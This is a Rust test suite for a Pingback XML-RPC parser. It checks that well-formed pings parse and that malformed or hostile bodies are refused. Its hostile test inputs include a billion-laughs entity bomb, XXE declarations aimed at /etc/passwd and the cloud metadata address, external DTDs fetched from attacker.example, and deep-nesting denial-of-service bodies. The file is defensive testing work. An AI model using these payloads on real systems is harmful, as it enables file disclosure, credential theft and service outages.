//! The Pingback XML-RPC codec against friendly and hostile bodies.

use std::time::{Duration, Instant};

use colloquy_federation::xmlrpc::{
    array_response, fault, fault_response, parse_call, parse_response, ping_request,
    string_response, Call, ParseError, MAX_REQUEST_BYTES,
};

fn ping(source: &str, target: &str) -> Call {
    Call::Ping {
        source: source.into(),
        target: target.into(),
    }
}

const SRC: &str = "https://example.org/a-post";
const TGT: &str = "https://colloquy.example/2024/hello";

#[test]
fn wordpress_style_ping_with_string() {
    let body = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <methodCall>\n  <methodName>pingback.ping</methodName>\n  <params>\n\
         <param><value><string>{SRC}</string></value></param>\n\
         <param><value><string>{TGT}</string></value></param>\n\
         </params>\n</methodCall>\n"
    );
    assert_eq!(parse_call(body.as_bytes()), Ok(ping(SRC, TGT)));
}

#[test]
fn ping_with_bare_values_whitespace_and_cdata() {
    let body = format!(
        "<?xml version=\"1.0\"?><methodCall><methodName> pingback.ping </methodName><params>\
         <param><value>\n   {SRC}\n  </value></param>\
         <param>\n<value>\n <string>\n <![CDATA[{TGT}]]>\t</string>\n</value>\n</param>\
         </params></methodCall>"
    );
    assert_eq!(parse_call(body.as_bytes()), Ok(ping(SRC, TGT)));
}

#[test]
fn ping_with_comment_and_self_closing_bits() {
    let body = "<methodCall><!-- hi --><methodName>pingback.ping</methodName><params>\
                <param><value>a<!-- split -->b</value></param>\
                <param><value><string/></value></param></params></methodCall>";
    assert_eq!(parse_call(body.as_bytes()), Ok(ping("ab", "")));
}

#[test]
fn list_methods() {
    let body = "<?xml version=\"1.0\"?><methodCall><methodName>system.listMethods</methodName>\
                <params></params></methodCall>";
    assert_eq!(parse_call(body.as_bytes()), Ok(Call::ListMethods));
    let no_params = "<methodCall><methodName>system.listMethods</methodName></methodCall>";
    assert_eq!(parse_call(no_params.as_bytes()), Ok(Call::ListMethods));
}

#[test]
fn unknown_method_is_other() {
    let body = "<methodCall><methodName>wp.getUsersBlogs</methodName><params>\
                <param><value><string>admin</string></value></param></params></methodCall>";
    assert_eq!(
        parse_call(body.as_bytes()),
        Ok(Call::Other("wp.getUsersBlogs".into()))
    );
}

fn ping_with_params(params: &str) -> Result<Call, ParseError> {
    let body = format!(
        "<methodCall><methodName>pingback.ping</methodName><params>{params}</params></methodCall>"
    );
    parse_call(body.as_bytes())
}

#[test]
fn wrong_param_count_or_types_are_bad_params() {
    let s = |v: &str| format!("<param><value><string>{v}</string></value></param>");
    let cases = [
        String::new(),
        s(SRC),
        format!("{}{}{}", s(SRC), s(TGT), s("x")),
        format!("{}<param><value><int>3</int></value></param>", s(SRC)),
        format!(
            "<param><value><array><data><value>{SRC}</value></data></array></value></param>{}",
            s(TGT)
        ),
        format!(
            "{}<param><value><boolean>1</boolean></value></param>",
            s(SRC)
        ),
        format!("{}<param></param>", s(SRC)),
        format!("{}<param><value>a</value><value>b</value></param>", s(SRC)),
        format!(
            "{}<param><value><string>a</string><string>b</string></value></param>",
            s(SRC)
        ),
        format!(
            "{}<param><value><string><b>x</b></string></value></param>",
            s(SRC)
        ),
        format!("{}<notparam/>", s(SRC)),
    ];
    for params in &cases {
        assert!(
            matches!(ping_with_params(params), Err(ParseError::BadParams(_))),
            "{params}: {:?}",
            ping_with_params(params)
        );
    }
    let missing = "<methodCall><methodName>pingback.ping</methodName></methodCall>";
    assert!(matches!(
        parse_call(missing.as_bytes()),
        Err(ParseError::BadParams(_))
    ));
}

#[test]
fn not_a_method_call() {
    for body in [
        "<methodResponse/>",
        "<methodCall/>",
        "<methodCall><methodName></methodName></methodCall>",
        "<methodCall><methodName>a</methodName><methodName>b</methodName></methodCall>",
        "<methodCall>junk<methodName>a</methodName></methodCall>",
        "<html><body>hi</body></html>",
    ] {
        assert_eq!(
            parse_call(body.as_bytes()),
            Err(ParseError::NotAMethodCall),
            "{body}"
        );
    }
}

#[test]
fn not_xml() {
    for body in [
        &b""[..],
        b"hello",
        b"{\"method\":\"pingback.ping\"}",
        b"<methodCall><methodName>pingback.ping</methodName>",
        b"<methodCall></methodcall>",
        b"<methodCall><methodName>x</methodName></methodCall><methodCall/>",
        b"<methodCall><methodName>\xff\xfe</methodName></methodCall>",
        b"<methodCall attr=><methodName>x</methodName></methodCall>",
    ] {
        assert!(
            matches!(parse_call(body), Err(ParseError::NotXml(_))),
            "{:?}: {:?}",
            String::from_utf8_lossy(body),
            parse_call(body)
        );
    }
}

#[test]
fn billion_laughs_is_refused() {
    let body = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<methodCall><methodName>pingback.ping</methodName><params>
<param><value><string>&lol9;</string></value></param>
<param><value><string>&lol9;</string></value></param>
</params></methodCall>"#;
    assert_eq!(parse_call(body.as_bytes()), Err(ParseError::Doctype));
    assert_eq!(
        parse_response(body.as_bytes()).unwrap_err().0,
        fault::GENERIC
    );
}

#[test]
fn external_entities_are_refused() {
    for decl in [
        r#"<!DOCTYPE methodCall [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>"#,
        r#"<!DOCTYPE methodCall [ <!ENTITY xxe PUBLIC "-//X//Y" "http://169.254.169.254/latest/meta-data/"> ]>"#,
        r#"<!DOCTYPE methodCall SYSTEM "http://attacker.example/evil.dtd">"#,
        r#"<!doctype methodCall PUBLIC "-//X//Y" "http://attacker.example/evil.dtd">"#,
    ] {
        let body = format!(
            "<?xml version=\"1.0\"?>\n{decl}\n<methodCall><methodName>pingback.ping</methodName>\
             <params><param><value>&xxe;</value></param>\
             <param><value>{TGT}</value></param></params></methodCall>"
        );
        assert_eq!(
            parse_call(body.as_bytes()),
            Err(ParseError::Doctype),
            "{decl}"
        );
    }
    // An entity declaration without a DOCTYPE around it is refused as one, too.
    let bare = "<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><methodCall/>";
    assert_eq!(parse_call(bare.as_bytes()), Err(ParseError::Doctype));
}

#[test]
fn undefined_entity_is_not_xml() {
    for v in ["&x;", "&xxe;", "&nbsp;", "&#xZZ;", "&amp"] {
        let body = format!(
            "<methodCall><methodName>pingback.ping</methodName><params>\
             <param><value><string>{v}</string></value></param>\
             <param><value>{TGT}</value></param></params></methodCall>"
        );
        assert!(
            matches!(parse_call(body.as_bytes()), Err(ParseError::NotXml(_))),
            "{v}: {:?}",
            parse_call(body.as_bytes())
        );
    }
    let in_attribute = "<methodCall a=\"&x;\"><methodName>x</methodName></methodCall>";
    assert!(matches!(
        parse_call(in_attribute.as_bytes()),
        Err(ParseError::NotXml(_))
    ));
}

#[test]
fn predefined_and_numeric_entities_decode() {
    let body = "<methodCall><methodName>pingback.ping</methodName><params>\
        <param><value><string>https://a.example/?x=1&amp;y=&lt;2&gt;&quot;&apos;</string></value></param>\
        <param><value>https://b.example/&#233;&#x1F600;&#38;</value></param>\
        </params></methodCall>";
    assert_eq!(
        parse_call(body.as_bytes()),
        Ok(ping(
            "https://a.example/?x=1&y=<2>\"'",
            "https://b.example/é😀&"
        ))
    );
}

#[test]
fn oversized_body_is_too_large() {
    let pad = " ".repeat(65 * 1024);
    let body = format!("<methodCall><methodName>system.listMethods</methodName>{pad}</methodCall>");
    assert_eq!(parse_call(body.as_bytes()), Err(ParseError::TooLarge));
    // Refused by size alone, before looking at the content.
    assert_eq!(
        parse_call(&vec![0u8; MAX_REQUEST_BYTES + 1]),
        Err(ParseError::TooLarge)
    );
    assert_eq!(
        parse_response(body.as_bytes()).unwrap_err().0,
        fault::GENERIC
    );
}

#[test]
fn deep_nesting_is_refused_quickly() {
    let start = Instant::now();
    // 10,000 nested elements (unclosed: closed they would not fit in 64 KiB).
    let unclosed = format!(
        "<methodCall><methodName>pingback.ping</methodName><params><param>{}",
        "<a>".repeat(10_000)
    );
    // 9,000 nested and properly closed.
    let closed = format!("{}x{}", "<a>".repeat(9_000), "</a>".repeat(9_000));
    // Nested XML-RPC arrays.
    let arrays = format!(
        "<methodCall><methodName>pingback.ping</methodName><params><param>{}x{}</param>\
         </params></methodCall>",
        "<value><array><data>".repeat(1_400),
        "</data></array></value>".repeat(1_400)
    );
    for body in [&unclosed, &closed, &arrays] {
        assert!(body.len() <= MAX_REQUEST_BYTES);
        assert!(matches!(
            parse_call(body.as_bytes()),
            Err(ParseError::NotXml(_))
        ));
    }
    let response = format!(
        "<methodResponse><params><param>{}</param></params></methodResponse>",
        "<value><array><data>".repeat(3_000)
    );
    assert_eq!(
        parse_response(response.as_bytes()).unwrap_err().0,
        fault::GENERIC
    );
    assert!(
        start.elapsed() < Duration::from_secs(2),
        "{:?}",
        start.elapsed()
    );
}

#[test]
fn ping_request_round_trips_with_escaping() {
    let source = "https://evil.example/?a=1&b=<script>\"'</script>";
    let target = "https://colloquy.example/p?x=&amp;";
    let req = ping_request(source, target);
    assert!(!req.contains("<script>"));
    assert!(req.contains("&amp;b=&lt;script&gt;"));
    assert_eq!(parse_call(req.as_bytes()), Ok(ping(source, target)));
}

#[test]
fn fault_response_parses_back() {
    for (code, message) in [
        (
            fault::NO_LINK,
            "The source URI does not contain a link to the target URI.",
        ),
        (
            fault::ALREADY_REGISTERED,
            "The pingback has already been registered.",
        ),
        (fault::PARSE_ERROR, "bad <xml> & worse ]]> \"quotes\""),
        (fault::GENERIC, ""),
        (-1, "  padded  "),
    ] {
        let xml = fault_response(code, message);
        assert!(xml.contains("<int>") && xml.contains("faultString"));
        assert_eq!(
            parse_response(xml.as_bytes()),
            Err((code, message.to_owned()))
        );
    }
}

#[test]
fn string_response_parses_ok() {
    let msg = "Pingback from https://a.example/?x&y=<1> registered. Keep the web talking! :-)";
    assert_eq!(
        parse_response(string_response(msg).as_bytes()),
        Ok(msg.to_owned())
    );
}

#[test]
fn array_response_lists_methods() {
    let xml = array_response(&["pingback.ping", "system.listMethods", "a&b"]);
    assert!(xml.starts_with("<?xml"));
    assert!(xml.contains(
        "<array><data><value><string>pingback.ping</string></value>\
         <value><string>system.listMethods</string></value>\
         <value><string>a&amp;b</string></value></data></array>"
    ));
    // It is well-formed; as an answer to a ping it is not a string.
    assert_eq!(
        parse_response(xml.as_bytes()).unwrap_err().0,
        fault::GENERIC
    );
}

#[test]
fn other_servers_responses() {
    // WordPress-style success with a bare value, and a fault with <i4> and a bare string.
    let ok = "<?xml version=\"1.0\"?>\n<methodResponse>\n  <params>\n    <param>\n      \
              <value>\n        <string>Pingback from A to B registered.</string>\n      \
              </value>\n    </param>\n  </params>\n</methodResponse>\n";
    assert_eq!(
        parse_response(ok.as_bytes()),
        Ok("Pingback from A to B registered.".to_owned())
    );
    let f = "<methodResponse><fault><value><struct>\
             <member><name>faultString</name><value>No link</value></member>\
             <member><name>faultCode</name><value><i4> 17 </i4></value></member>\
             </struct></value></fault></methodResponse>";
    assert_eq!(
        parse_response(f.as_bytes()),
        Err((17, "No link".to_owned()))
    );
}

#[test]
fn garbage_response_is_generic_error() {
    for body in [
        &b""[..],
        b"<html><body>500 Internal Server Error</body></html>",
        b"not xml at all",
        b"<methodResponse></methodResponse>",
        b"<methodResponse><params></params></methodResponse>",
        b"<methodResponse><fault><value><string>x</string></value></fault></methodResponse>",
        b"<methodResponse><fault><value><struct></struct></value></fault></methodResponse>",
        b"<methodResponse><params><param><value><string>&x;</string></value></param></params></methodResponse>",
        b"\xff\xfe<\x00m\x00",
    ] {
        let got = parse_response(body);
        assert!(
            matches!(&got, Err((0, m)) if !m.is_empty()),
            "{:?}: {got:?}",
            String::from_utf8_lossy(body)
        );
    }
}

#[test]
fn errors_have_messages() {
    for e in [
        ParseError::TooLarge,
        ParseError::NotXml("x".into()),
        ParseError::Doctype,
        ParseError::NotAMethodCall,
        ParseError::BadParams("y".into()),
    ] {
        assert!(e.to_string().len() > 5, "{e:?}");
    }
}
